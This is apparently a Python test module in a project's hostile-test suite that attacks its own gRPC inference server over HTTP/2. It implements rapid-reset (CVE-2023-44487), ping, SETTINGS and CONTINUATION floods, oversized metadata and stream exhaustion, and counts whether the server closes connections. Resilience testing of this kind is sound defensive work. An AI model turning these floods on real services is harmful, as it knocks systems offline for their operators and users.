"""Attacks on HTTP/2 itself, against the public gRPC API."""

import asyncio
import contextlib
import itertools
from collections import Counter
from collections.abc import Awaitable, Callable

from tests.hostile.attack import Answers, Attack
from tests.hostile.attacks import raw_http2
from tests.hostile.attacks.raw_http2 import (
    CANCEL,
    CONTINUATION,
    END_HEADERS,
    HEADERS,
    MAX_FRAME_BYTES,
    PING,
    RST_STREAM,
    SETTINGS,
    Connection,
    flood,
    frame,
)
from tests.hostile.target import Target

GENERATE = "/orcinus.v1.InferenceService/Generate"
N_CONNECTIONS = 8


async def rapid_reset(target: Target) -> Answers:
    """Begins 50,000 calls and resets each at once (CVE-2023-44487)."""
    header_block = raw_http2.block(target, GENERATE)

    async def attack(connection: Connection) -> Answers:
        reset = CANCEL.to_bytes(4, "big")
        streams = itertools.count(1, 2)
        try:
            for _ in range(63):
                await connection.send(
                    b"".join(
                        frame(HEADERS, END_HEADERS, stream, header_block)
                        + frame(RST_STREAM, 0, stream, reset)
                        for stream in itertools.islice(streams, 100)
                    )
                )
        except OSError:
            return Counter(["closed"])
        return Counter(["taken"])

    return await _on_connections(target, attack)


async def ping_flood(target: Target) -> Answers:
    """Sends 800,000 pings."""
    pings = frame(PING, 0, 0, b"attacker") * 1000
    return await _on_connections(target, lambda connection: flood(connection, pings, 100))


async def settings_flood(target: Target) -> Answers:
    """Sends 800,000 empty SETTINGS frames, each of which requires an acknowledgement."""
    settings = frame(SETTINGS, 0, 0) * 1000
    return await _on_connections(target, lambda connection: flood(connection, settings, 100))


async def continuation_flood(target: Target) -> Answers:
    """Sends headers that do not end, in 2,000 frames of 16 KiB on each connection
    (CVE-2024-27316 and its like)."""
    return await _on_connections(target, lambda connection: _endless_head(target, connection, 1))


async def continuation_flood_beside_calls(target: Target) -> Answers:
    """Sends such headers on connections that have a call each, whose message never comes."""
    call = frame(HEADERS, END_HEADERS, 1, raw_http2.block(target, GENERATE))

    async def attack(connection: Connection) -> Answers:
        with contextlib.suppress(OSError):
            await connection.send(call)
        return await _endless_head(target, connection, 3)

    return await _on_connections(target, attack)


async def _endless_head(target: Target, connection: Connection, stream: int) -> Answers:
    with contextlib.suppress(OSError):
        await connection.send(frame(HEADERS, 0, stream, raw_http2.block(target, GENERATE)))
    header = b"\0\x01x\x7f" + b"\x81\x7e" + b"a" * (MAX_FRAME_BYTES - 128)
    piece = frame(CONTINUATION, 0, stream, header[:MAX_FRAME_BYTES])
    return await flood(connection, piece, 2000)


async def huge_metadata(target: Target) -> Answers:
    """Sends 800 calls whose metadata has a megabyte, on eight connections."""
    metadata = [(f"x-{index}", "a" * 4000) for index in range(250)]
    header_block = raw_http2.block(target, GENERATE, metadata)
    pieces = [
        header_block[start : start + MAX_FRAME_BYTES]
        for start in range(0, len(header_block), MAX_FRAME_BYTES)
    ]

    async def attack(connection: Connection) -> Answers:
        try:
            for stream in range(1, 201, 2):
                await connection.send(frame(HEADERS, 0, stream, pieces[0]))
                for piece in pieces[1:-1]:
                    await connection.send(frame(CONTINUATION, 0, stream, piece))
                await connection.send(frame(CONTINUATION, END_HEADERS, stream, pieces[-1]))
        except OSError:
            return Counter(["closed"])
        return Counter(["taken"])

    return await _on_connections(target, attack)


async def many_calls(target: Target) -> Answers:
    """Begins 10,000 calls on each of eight connections, and sends no message."""
    header_block = raw_http2.block(target, GENERATE)

    async def attack(connection: Connection) -> Answers:
        streams = itertools.count(1, 2)
        try:
            for _ in range(100):
                await connection.send(
                    b"".join(
                        frame(HEADERS, END_HEADERS, stream, header_block)
                        for stream in itertools.islice(streams, 100)
                    )
                )
            await asyncio.sleep(4)
        except OSError:
            return Counter(["closed"])
        return Counter({"reset": connection.n_frames[RST_STREAM]})

    return await _on_connections(target, attack)


async def _on_connections(
    target: Target, attack: Callable[[Connection], Awaitable[Answers]]
) -> Answers:
    """Attacks on several connections at once."""
    answers: Answers = Counter()

    async def one() -> None:
        try:
            connection = await Connection.open(target)
        except OSError:
            answers["closed"] += 1
            return
        try:
            answers.update(await attack(connection))
        finally:
            await connection.close()

    await asyncio.gather(*(one() for _ in range(N_CONNECTIONS)))
    return +answers


ATTACKS = (
    Attack(name="rapid_reset", run=rapid_reset),
    Attack(name="ping_flood", run=ping_flood),
    Attack(name="settings_flood", run=settings_flood),
    Attack(name="continuation_flood", run=continuation_flood),
    Attack(name="continuation_flood_beside_calls", run=continuation_flood_beside_calls),
    Attack(name="huge_metadata", run=huge_metadata),
    Attack(name="many_grpc_calls", run=many_calls),
)
